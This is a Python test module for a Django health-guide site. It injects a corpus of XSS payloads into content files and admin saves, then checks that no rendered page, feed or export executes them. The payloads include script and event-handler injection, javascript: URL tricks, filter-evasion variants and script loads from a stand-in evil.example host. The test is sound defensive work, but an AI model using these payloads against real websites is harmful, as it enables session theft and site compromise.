"""XSS payloads through the real content path, and through admin saves: none is ever executable.

Every payload (the Markdown corpus of tests/test_markdown.py plus this
module's own corpus aimed at plain-text fields, attributes, <title>, JSON-LD
and URLs) is written into a copy of content/: a guide's title, summary, key
points and body, an FAQ's question and answer, a reference's title, authors,
journal and note, a food's name and serving, a medicine's names and advice,
and a topic, a person, a supplement form and a site page. ``loadcontent``
loads the copy, and every page that shows those fields is fetched and scanned.

A whole page legitimately has scripts, forms and inputs of its own, so the
scan (``PageScan``, an ``ExecutableFinder``) reports two things: anything that
executes wherever it appears (event handlers, style attributes, srcdoc,
javascript:/data: URLs), and every script, form, input, meta, link, svg or
other executable-capable tag, by signature, which must be one the clean site
also renders. JSON-LD blocks must still parse as JSON.
"""

import datetime as dt
import json
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import quote

import pytest
import yaml
from django.conf import settings
from django.core.management import call_command

from guides.content.format import dump_yaml
from tests.admin_forms import approve_change
from tests.test_markdown import BAD_TAGS, XSS_PAYLOADS, ExecutableFinder

pytestmark = pytest.mark.usefixtures("content")

MARK = "xsspayload"
DAY = dt.date.today()  # newest of all, so payload guides lead the feed

# Aimed at the places plain text lands: element text, attribute values, <title>, <textarea>,
# JSON-LD <script> blocks, URLs, and at double-decoding and filter-evasion tricks.
CONTENT_PAYLOADS = [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"}]</script><script>alert(1)</script>',
    "<!--</script><script>alert(1)//-->",
    "\u2028\u2029</script><svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)"//',
    "<svg/onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<link rel=import href=data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    '<div data-x="1" onclick="alert(1)">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<style>*{background:url("javascript:alert(1)")}</style>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
    '<base href="//evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    '[x]( javascript:alert(1) "title")',
    "*<img src=x onerror=alert(1)>*",
    "> <script>alert(1)</script>",
    '<http://example.org/"onmouseover="alert(1)>',
    '![x](x"onerror="alert(1))',
    '[x](https://example.org/"onclick="alert(1))',
    "{{ request.META }}{% debug %}<script>alert(1)</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
]
PAYLOADS = XSS_PAYLOADS + CONTENT_PAYLOADS
ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"


def number(n):
    return f"{n:02d}"


def one_line(text):
    return text.replace("\n", " ")


def fit(text, limit):
    return one_line(text)[:limit]


def as_markdown(payload):
    """The payload for a Markdown field. A wiki link must name a real guide (else loadcontent
    rightly refuses the whole load), so [[x|...]] links to one; the link text is still the payload."""
    return payload.replace("[[x|", "[[magnesium-deficiency|")


def summary(n, payload):
    text = f"{MARK} {number(n)} {one_line(payload)}"
    return (text + " - a plain sentence to reach the minimum summary length.")[:160] if len(text) < 50 else text[:160]


def write_xss_content(target):
    """Copy content/ to ``target`` and add every payload to it. Returns ``target``."""
    target = Path(target)
    shutil.copytree(settings.CONTENT_DIR, target)

    def extend(name, items):
        path = target / name
        data = yaml.safe_load(path.read_text(encoding="utf-8")) or []
        path.write_text(dump_yaml(data + items), encoding="utf-8")

    every_body = "\n\n".join(as_markdown(p) for p in PAYLOADS)
    extend(
        "references.yaml",
        [
            {
                "key": f"XSS_{number(n)}",
                "authors": fit(p, 500),
                "title": fit(f"{MARK} {p}", 500),
                "container": fit(p, 300),
                "year": 2020,
                "volume": None,
                "issue": None,
                "pages": None,
                "doi": None,
                "pmid": None,
                "url": f"https://example.org/xss/{number(n)}",
                "note": fit(p, 500),
            }
            for n, p in enumerate(PAYLOADS, 1)
        ],
    )
    extend(
        "foods.yaml",
        [
            {
                "slug": f"xss-food-{number(n)}",
                "name": fit(f"{MARK} {number(n)} {p}", 120),
                "category": "other",
                "serving": fit(p, 80),
                "grams": None,
                "magnesium_mg": 400 + n,
                "potassium_mg": 1,
                "calcium_mg": 1,
                "sodium_mg": 1,
                "sources": [f"XSS_{number(n)}"],
            }
            for n, p in enumerate(PAYLOADS, 1)
        ],
    )
    extend(
        "interactions.yaml",
        [
            {
                "slug": f"xss-medicine-{number(n)}",
                "name": fit(f"{MARK} {number(n)} {p}", 200),
                "names": [fit(p, 100), f"{MARK}{number(n)}"],
                "effect": "absorption",
                "what_happens": p,
                "what_to_do": p,
                "separation_hours": fit(p, 60),
                "sources": [f"XSS_{number(n)}"],
                "order": 9000 + n,
            }
            for n, p in enumerate(PAYLOADS, 1)
        ],
    )
    extend(
        "topics.yaml",
        [
            {
                "slug": "xss-topic",
                "name": fit(f"{MARK} {CONTENT_PAYLOADS[0]}", 100),
                "summary": fit(f"{MARK} {CONTENT_PAYLOADS[2]}", 160),
                "intro": every_body,
                "order": 9000,
            }
        ],
    )
    extend(
        "people.yaml",
        [
            {
                "slug": "xss-person",
                "name": fit(f"{MARK} {CONTENT_PAYLOADS[1]}", 120),
                "credentials": fit(CONTENT_PAYLOADS[3], 120),
                "role": "both",
                "bio": " ".join(PAYLOADS),
            }
        ],
    )
    extend(
        "supplements.yaml",
        [
            {
                "slug": "xss-supplement",
                "name": fit(f"{MARK} {XSS_PAYLOADS[1]}", 80),
                "formula": fit(CONTENT_PAYLOADS[0], 80),
                "elemental_percent": 10,
                "absorption": " ".join(PAYLOADS),
                "evidence": "limited",
                "laxative_effect": fit(" ".join(PAYLOADS), 300),
                "best_for": fit(" ".join(reversed(PAYLOADS)), 300),
                "cautions": " ".join(PAYLOADS),
                "body": every_body,
                "sources": ["XSS_01"],
                "order": 9000,
            }
        ],
    )
    extend(
        "faqs.yaml",
        [
            {
                "question": fit(f"{MARK} {number(n)} {p}", 200),
                "answer": as_markdown(p),
                "article": f"xss-{number(n)}",
                "topics": ["xss-topic"],
                "order": 90000 + n,
            }
            for n, p in enumerate(PAYLOADS, 1)
        ],
    )
    for n, p in enumerate(PAYLOADS, 1):
        front = {
            "slug": f"xss-{number(n)}",
            "title": fit(f"{MARK} {number(n)} {p}", 120),
            "summary": summary(n, p),
            "key_points": [one_line(p), f"{MARK} key point"],
            "parent": "magnesium-electrolyte-balance",
            "topics": ["xss-topic"],
            "related": ["magnesium-deficiency", f"xss-{number(n % len(PAYLOADS) + 1)}"],
            "author": "xss-person",
            "reviewer": "xss-person",
            "status": "published",
            "published": DAY,
            "updated": DAY,
            "last_reviewed": None,
            "next_review_due": None,
        }
        body = (
            f"Payload {number(n)} follows [@XSS_{number(n)}].\n\n{as_markdown(p)}\n\n"
            f"## {one_line(as_markdown(p))}\n\n"
            f"[[magnesium-deficiency|{one_line(p).replace(']', '').replace('[', '')}]]\n"
        )
        if n <= 2:  # data tables list every food and medicine name, payloads included
            body += "\n[[table:foods-magnesium]]\n\n[[table:interactions]]\n"
        text = "---\n" + dump_yaml(front) + "---\n\n" + body
        (target / "articles" / f"xss-{number(n)}.md").write_text(text, encoding="utf-8")
    (target / "pages" / "xss-page.md").write_text(
        "---\n"
        + dump_yaml(
            {
                "slug": "xss-page",
                "title": fit(f"{MARK} {CONTENT_PAYLOADS[4]}", 120),
                "summary": summary(0, CONTENT_PAYLOADS[5]),
                "order": 9000,
                "updated": DAY,
            }
        )
        + "---\n\n"
        + every_body
        + "\n",
        encoding="utf-8",
    )
    return target


def xss_urls():
    """Every page that shows a payload-bearing field."""
    food_query = "&".join(f"food=xss-food-{number(n)}&servings=1" for n in range(1, 11))
    urls = [f"/guides/xss-{number(n)}/" for n in range(1, len(PAYLOADS) + 1)] + [
        "/",
        "/guides/",
        "/topics/xss-topic/",
        "/faq/",
        "/references/",
        "/foods/",
        "/foods/?sort=name&category=other",
        "/supplements/",
        "/supplements/xss-supplement/",
        "/people/xss-person/",
        "/xss-page/",
        "/guides/magnesium-medicine-interactions/",
        "/guides/magnesium-food-sources/",
        "/tools/interactions/",
        f"/tools/interactions/?med={MARK}01&med={MARK}02&med={quote(PAYLOADS[0])}",
        f"/tools/magnesium-calculator/?age=35&sex=female&{food_query}&supplement=xss-supplement&supplement_mg=100",
        f"/search/?q={MARK}",
        f"/search/?q={MARK}&page=2",
        f"/search/?q={MARK}&page=5",
        "/search/?q=alert",
        "/search/?q=onerror+script",
        f"/search/?q={quote(PAYLOADS[0])}",
    ]
    return urls


BASELINE_URLS = [
    "/",
    "/guides/",
    "/guides/magnesium-deficiency/",
    "/guides/magnesium-medicine-interactions/",
    "/guides/magnesium-food-sources/",
    "/topics/deficiency/",
    "/faq/",
    "/references/",
    "/foods/",
    "/supplements/",
    "/supplements/magnesium-oxide/",
    "/people/editorial-team/",
    "/about/",
    "/tools/interactions/?med=omeprazole",
    "/tools/magnesium-calculator/?age=35&sex=female&food=almonds-dry-roasted&supplement=magnesium-oxide"
    "&supplement_mg=100",
    "/tools/lab-units/?analyte=magnesium&value=2&unit=mg/dL",
    "/search/?q=magnesium",
    "/search/?q=magnesium&page=2",
    "/no-such-page/",
]

# Attributes kept in a tag's signature; others (ids, classes, values, text) vary with the content.
SIGNATURE_ATTRS = {
    "script": ("type", "src"),
    "link": ("rel",),
    "meta": ("name", "http-equiv", "charset", "property"),
    "form": ("action", "method", "role"),
    "input": ("type", "name"),
    "button": ("type", "name", "formaction"),
}
URL_ATTRS = ("href", "src", "action", "data", "xlink:href", "poster", "background", "ping", "cite")
SAFE_SCHEMES = ("http", "https", "mailto")
FORMSET_ROW = re.compile(r"-(\d+|__prefix__)-")  # admin inline rows differ only in their number


def url_scheme(value):
    """The scheme a browser reads in an attribute URL (WHATWG URL parsing: leading and trailing
    C0 controls and spaces are trimmed, tabs and newlines anywhere are removed), or ""."""
    cleaned = re.sub(
        r"[\t\n\r]",
        "",
        (value or "").strip(
            "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b"
            "\x0c\x0d\x0e\x0f\x10\x11\x12\x13\x14\x15\x16"
            "\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f\x20"
        ),
    )
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", cleaned)
    return match.group(1).lower() if match else ""


class PageScan(ExecutableFinder):
    """An ExecutableFinder for whole pages (see the module docstring).

    URL attributes are judged as a browser parses them, so a relative link such as
    "java   script:x" (spaces are not removed) is not reported, while "java<TAB>script:x" is.
    """

    def __init__(self):
        super().__init__()
        self.signatures = set()
        self.json_ld = []
        self._json_ld = False

    def handle_starttag(self, tag, attrs):
        before = len(self.problems)
        super().handle_starttag(tag, attrs)
        found = self.problems[before:]
        del self.problems[before:]
        found = [p for p in found if not any(p.startswith(f"{tag}[{name}=") for name in URL_ATTRS)]
        if tag in BAD_TAGS:
            found.remove(f"<{tag}>")
            keep = SIGNATURE_ATTRS.get(tag, ())
            parts = [f"{k}={FORMSET_ROW.sub('-N-', v or '')}" for k, v in sorted(attrs) if k in keep]
            if tag == "link":
                href = dict(attrs).get("href") or ""
                parts.append("href=" + (url_scheme(href) or ("//" if href.startswith("//") else "relative")))
            self.signatures.add(" ".join([f"<{tag}", *parts]) + ">")
        for name, value in attrs:
            urls = [c.strip().split(" ")[0] for c in (value or "").split(",")] if name == "srcset" else [value]
            if name in (*URL_ATTRS, "srcset") and any(url_scheme(u) not in ("", *SAFE_SCHEMES) for u in urls):
                found.append(f"{tag}[{name}={value}]")
            if name in ("to", "from", "values") and re.search(
                r"(java|vb)script:", re.sub(r"\s", "", value or ""), re.I
            ):
                found.append(f"{tag}[{name}={value}]")
        self.problems += found
        self._json_ld = tag == "script" and dict(attrs).get("type") == "application/ld+json"
        if self._json_ld:
            self.json_ld.append("")

    def handle_endtag(self, tag):
        if tag == "script":
            self._json_ld = False

    def handle_data(self, data):
        if self._json_ld:
            self.json_ld[-1] += data


def scan(html):
    page = PageScan()
    page.feed(html)
    page.close()
    return page


def fetch(client, url):
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()


def baseline_signatures(client):
    """Tag signatures of the clean site, which must itself have no executable problems."""
    signatures = set()
    for url in BASELINE_URLS:
        response = client.get(url)
        page = scan(response.content.decode())
        assert page.problems == [], (url, page.problems)
        signatures |= page.signatures
    return signatures


def problems_in(html, allowed):
    page = scan(html)
    problems = list(page.problems) + sorted(page.signatures - allowed)
    for block in page.json_ld:
        try:
            json.loads(block)
        except ValueError:
            problems.append(f"JSON-LD does not parse: {block[:200]}")
    return problems


def test_corpus_is_large_and_distinct():
    assert len(CONTENT_PAYLOADS) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)


def test_page_scan_catches_what_it_should():
    allowed = {"<script src=/static/js/site.js>"}
    assert problems_in('<script src="/static/js/site.js"></script>', allowed) == []
    assert problems_in("<script>alert(1)</script>", allowed) == ["<script>"]
    assert problems_in('<p title="x"><img src=x onerror=alert(1)></p>', allowed) == ["img[onerror]"]
    assert problems_in('<a href=" javascript:alert(1)">x</a>', allowed) == ["a[href= javascript:alert(1)]"]
    assert problems_in('<a href="java\tscript:alert(1)">x</a>', allowed) == ["a[href=java\tscript:alert(1)]"]
    assert problems_in('<a href="java&#10;script:alert(1)">x</a>', allowed) == ["a[href=java\nscript:alert(1)]"]
    assert problems_in('<a href="java    script:alert(1)">x</a>', allowed) == []  # a relative URL to a browser
    assert problems_in('<img srcset="a.png 1x, data:image/svg+xml,x 2x">', allowed) == [
        "img[srcset=a.png 1x, data:image/svg+xml,x 2x]"
    ]
    assert problems_in("<svg><set attributeName=href to=javascript:alert(1)></svg>", allowed) == [
        "set[to=javascript:alert(1)]",
        "<svg>",
    ]
    assert problems_in(
        '<script type="application/ld+json">{"a": "</script><b>"}</script>', {"<script type=application/ld+json>"}
    ) == ['JSON-LD does not parse: {"a": "']


def test_payloads_in_content_files_never_execute(client, tmp_path):
    allowed = baseline_signatures(client)
    call_command("loadcontent", dir=str(write_xss_content(tmp_path / "content")), verbosity=0)

    found, escaped_script_seen = {}, False
    for url in xss_urls():
        html = fetch(client, url)
        problems = problems_in(html, allowed)
        if problems:
            found[url] = problems
        escaped_script_seen |= ESCAPED_SCRIPT in html
        if url.startswith("/guides/xss-"):
            assert f"{MARK} {url[12:14]}" in html, f"{url} does not show its payload"
        if url == "/guides/xss-01/":
            assert f"{MARK} 50" in html, "the data tables do not list the payload foods and medicines"
    assert found == {}
    assert escaped_script_seen, "no page showed a payload as text: the payloads did not reach the pages"

    assert feed_problems(client) == []

    # The search suggestions are JSON (search.js builds them with createElement/textContent).
    suggest = client.get(f"/search/suggest/?q={MARK}")
    assert suggest["Content-Type"] == "application/json"
    assert any(MARK in s["title"] for s in suggest.json()["suggestions"])

    # The CSV download is text; cells that a spreadsheet would run as formulas are neutralised.
    csv_text = client.get("/foods.csv").content.decode()
    assert MARK in csv_text and "\n=" not in csv_text and ",=" not in csv_text


def feed_problems(client):
    """Atom ``type="html"`` text is HTML to a feed reader: it must hold payloads only as escaped text."""
    root = ET.fromstring(client.get("/feed.xml").content)  # noqa: S314 (the site's own feed)
    entries = [ET.tostring(el, encoding="unicode") for el in root.iter() if el.tag.endswith("entry")]
    assert any(MARK in entry for entry in entries), "no payload guide in the feed"
    problems = []
    for element in root.iter():
        if element.get("type") == "html":
            finder = ExecutableFinder()
            finder.feed(element.text or "")
            problems += finder.problems
    return problems


# --- Admin saves ---------------------------------------------------------------


def admin_form(client, url):
    """The hidden management fields of an admin add form, with their initial values."""
    html = client.get(url).content.decode()
    fields = dict(
        re.findall(
            r'<input type="hidden" name="([^"]+-(?:TOTAL|INITIAL|MIN_NUM|MAX_NUM)_FORMS)"'
            r'[^>]*value="(\d+)"',
            html,
        )
    )
    assert fields, "no inline formsets found on the admin form"
    return fields


def test_payloads_saved_through_the_admin_never_execute(client, editor_client):
    from guides.models import Article, Change, Person, Topic

    allowed = baseline_signatures(client)
    editor_allowed = set()
    clean_change_page = f"/admin/guides/article/{Article.objects.get(slug='magnesium-deficiency').pk}/change/"
    for url in ("/admin/guides/article/", "/admin/guides/article/add/", "/admin/guides/food/", clean_change_page):
        editor_allowed |= scan(editor_client.get(url).content.decode()).signatures
    author = Person.objects.get(slug="editorial-team")
    topic = Topic.objects.get(slug="basics")
    parent = Article.objects.get(slug="magnesium-electrolyte-balance")
    management = admin_form(editor_client, "/admin/guides/article/add/")
    saved = []
    for n, payload in enumerate(PAYLOADS, 1):
        slug = f"xss-admin-{number(n)}"
        data = {
            **management,
            "title": fit(f"{MARK} admin {number(n)} {payload}", 120),
            "slug": slug,
            "status": "published",
            "summary": summary(n, payload),
            "key_points": one_line(payload),
            "body": f"Intro.\n\n{payload}\n",
            "parent": parent.pk,
            "topics": [topic.pk],
            "author": author.pk,
            "published": "2026-11-21",
            "updated": "2026-11-21",
            "last_reviewed": "",
            "next_review_due": "",
        }
        faq_prefix = next(
            k[: -len("-TOTAL_FORMS")] for k in management if k.startswith("faq") and k.endswith("-TOTAL_FORMS")
        )
        data.update(
            {
                f"{faq_prefix}-TOTAL_FORMS": "1",
                f"{faq_prefix}-0-question": fit(f"{MARK} {payload}", 200),
                f"{faq_prefix}-0-answer": payload,
                f"{faq_prefix}-0-topics": [topic.pk],
                f"{faq_prefix}-0-order": str(80000 + n),
            }
        )
        response = editor_client.post("/admin/guides/article/add/", data)
        if response.status_code == 302:
            saved.append(slug)
        else:  # refused with a message (an unknown [[link]]): the form shows the payload back, escaped
            assert response.status_code == 200 and "errornote" in response.content.decode(), payload
            problems = sorted(scan(response.content.decode()).signatures - editor_allowed)
            assert scan(response.content.decode()).problems == [] and problems == [], (payload, problems)
        food = editor_client.post(
            "/admin/guides/food/add/",
            {
                "slug": f"xss-admin-food-{number(n)}",
                "name": fit(f"{MARK} {payload}", 120),
                "category": "other",
                "serving": fit(payload, 80),
                "magnesium_mg": "1",
            },
        )
        assert food.status_code == 302, food.content.decode()[:500]
    assert len(saved) >= len(PAYLOADS) - 2, "the admin refused payloads it should have saved"
    review_pages = [f"/admin/guides/change/{pk}/review/" for pk in Change.objects.values_list("pk", flat=True)[:3]]
    # New guides are drafts and new foods are staged changes: publish them as a sign-off would.
    Article.objects.filter(slug__in=saved).update(status=Article.Status.PUBLISHED)
    for change in Change.objects.filter(state__in=Change.OPEN):
        approve_change(change)

    found = {}
    for url in [f"/guides/{slug}/" for slug in saved] + ["/faq/", "/foods/", "/guides/", "/topics/basics/"]:
        problems = problems_in(fetch(client, url), allowed)
        if problems:
            found[url] = problems
    for url in (
        "/admin/guides/article/?q=xsspayload",
        "/admin/guides/food/?q=xsspayload",
        f"/admin/guides/article/{Article.objects.get(slug=saved[0]).pk}/change/",
        "/admin/guides/change/",
        *review_pages,
    ):
        page = scan(editor_client.get(url).content.decode())
        problems = page.problems + sorted(page.signatures - editor_allowed)
        if problems:
            found[url] = problems
    assert found == {}
